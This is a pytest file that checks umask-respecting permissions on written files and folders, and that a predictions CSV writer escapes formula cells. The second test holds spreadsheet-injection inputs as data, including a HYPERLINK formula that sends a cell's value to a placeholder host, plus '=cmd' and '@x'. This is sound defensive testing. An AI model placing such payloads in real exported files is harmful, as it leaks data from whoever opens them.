"""Files and folders that are written: their permissions, and what a table holds."""

import csv
import os

import pytest

from rd_hf.runtime.files import new_folder, write_predictions
from rd_hf.teacher_cache.file import make_file


@pytest.mark.parametrize("mask", [0o077, 0o027, 0o002])
def test_new_files_and_folders_have_the_permissions_that_the_user_gives(tmp_path, monkeypatch, mask):
    before = os.umask(mask)
    try:
        with monkeypatch.context() as patches:
            patches.delattr("os.umask")  # which is that of all threads
            make_file(tmp_path / "cache" / "view_0.safetensors", b"header", 100)
            with new_folder(tmp_path / "export") as folder:
                os.close(os.open(folder / "model.safetensors", os.O_CREAT | os.O_WRONLY, 0o600))
    finally:
        os.umask(before)
    for path in tmp_path.rglob("*"):
        assert path.stat().st_mode & 0o777 == (0o777 if path.is_dir() else 0o666) & ~mask, path
    assert {path.name for path in (tmp_path / "export").iterdir()} == {"model.safetensors"}


def test_no_cell_of_predictions_is_a_formula(tmp_path):
    path = tmp_path / "predictions.csv"
    files, labels = ['=HYPERLINK("http://x/?"&A2).png', "a/-1.png", "-1.png"], ["=1+1", "@x", "-"]
    table = [[label, "-0.5", "-1e-05", "+1"] for label in labels]
    write_predictions(path, [0, 1, 2], ["label", "=cmd", "-1", "x-y"], table, files)
    with path.open(newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["row", "file", "label", "'=cmd", "-1", "x-y"]
    assert [row[1] for row in rows[1:]] == [f"./{files[0]}", "a/-1.png", "./-1.png"]
    assert [row[2:] for row in rows[1:]] == [[f"'{label}", "-0.5", "-1e-05", "+1"] for label in labels]
